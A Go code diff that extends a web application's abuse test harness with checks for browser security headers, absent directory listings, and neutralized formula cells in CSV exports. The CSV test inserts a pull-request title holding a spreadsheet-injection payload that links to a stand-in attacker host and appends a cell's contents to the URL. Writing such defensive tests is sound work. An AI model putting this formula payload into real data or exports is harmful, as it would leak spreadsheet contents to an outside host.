@@ -22,15 +22,19 @@ type abuseResult struct {
 	Got         int
 	Changed     bool
 	MayChange   bool
+	// Problem is what was wrong with an answer whose status was right (a
+	// missing header, an unsafe cell).
+	Problem string
 }
 
-// OK says the answer was one of Want and nothing changed that must not.
+// OK says the answer was one of Want, nothing changed that must not, and
+// nothing was wrong with it.
 func (r abuseResult) OK() bool {
 	okCode := false
 	for _, w := range r.Want {
 		okCode = okCode || w == r.Got
 	}
-	return okCode && (r.MayChange || !r.Changed)
+	return okCode && (r.MayChange || !r.Changed) && r.Problem == ""
 }
 
 // abuse tries a corpus of hostile webhook bodies, every route of the route
@@ -211,6 +215,68 @@ func abuse(ctx context.Context, a *app) ([]abuseResult, error) {
 			return nil, err
 		}
 	}
+
+	// Browser protections on every answer, and no directory listings.
+	for _, path := range []string{"/login", "/", "/api/v1/me", "/static/app.css", "/healthz"} {
+		req, _ := http.NewRequestWithContext(ctx, "GET", a.URL()+path, nil)
+		res, err := hc.Do(req)
+		if err != nil {
+			return nil, err
+		}
+		io.Copy(io.Discard, res.Body)
+		res.Body.Close()
+		problem := ""
+		for h, want := range map[string]string{"Content-Security-Policy": "frame-ancestors 'none'",
+			"X-Content-Type-Options": "nosniff", "X-Frame-Options": "DENY", "Referrer-Policy": "same-origin"} {
+			if !strings.Contains(res.Header.Get(h), want) {
+				problem += fmt.Sprintf("%s lacks %q; ", h, want)
+			}
+		}
+		for _, d := range strings.Split(res.Header.Get("Content-Security-Policy"), ";") {
+			if d = strings.TrimSpace(d); strings.HasPrefix(d, "script-src") && strings.Contains(d, "'unsafe-inline'") {
+				problem += "inline script allowed; "
+			}
+		}
+		out = append(out, abuseResult{Group: "headers", Case: "GET " + path + " carries the browser protections",
+			Want: []int{res.StatusCode}, Got: res.StatusCode, Problem: problem})
+	}
+	for _, path := range []string{"/static/", "/static/dashboard/"} {
+		req, _ := http.NewRequestWithContext(ctx, "GET", a.URL()+path, nil)
+		if err := try("headers", "GET "+path+" lists no files", []int{404}, false, req); err != nil {
+			return nil, err
+		}
+	}
+
+	// CSV exports neutralize cells a spreadsheet would run as formulas
+	// (a PR title typed in Azure DevOps: OWASP CSV injection).
+	ws, err := a.db.EnsureWorkspace(ctx, "bench", time.Now())
+	if err != nil {
+		return nil, err
+	}
+	formula := `=HYPERLINK("https://evil.example/?"&A1,"Click")`
+	if _, err := a.db.UpsertPullRequest(ctx, store.PullRequest{Key: store.Key{IntegrationID: integrationID, WorkspaceID: ws.ID},
+		PRID: 4242, ProjectID: "p", RepoID: "r", Title: formula, Status: "active", AuthorID: "a", CreatedAt: time.Now(),
+		ProviderUpdatedAt: time.Now()}); err != nil {
+		return nil, err
+	}
+	req, _ := http.NewRequestWithContext(ctx, "GET", a.URL()+"/api/v1/pull-requests", nil)
+	req.Header.Set("Authorization", "Bearer "+adminTok.Reveal())
+	req.Header.Set("Accept", "text/csv")
+	res, err = hc.Do(req)
+	if err != nil {
+		return nil, err
+	}
+	body, _ := io.ReadAll(res.Body)
+	res.Body.Close()
+	problem := ""
+	switch {
+	case !strings.Contains(string(body), "HYPERLINK"):
+		problem = "the export does not hold the PR"
+	case !strings.Contains(string(body), `'=HYPERLINK`):
+		problem = "a formula cell is exported as a formula"
+	}
+	out = append(out, abuseResult{Group: "csv", Case: "a PR title starting with = is exported as text", Want: []int{200},
+		Got: res.StatusCode, Problem: problem})
 
 	// Login brute force: ten wrong passwords, then the limit answers.
 	for i := range 12 {
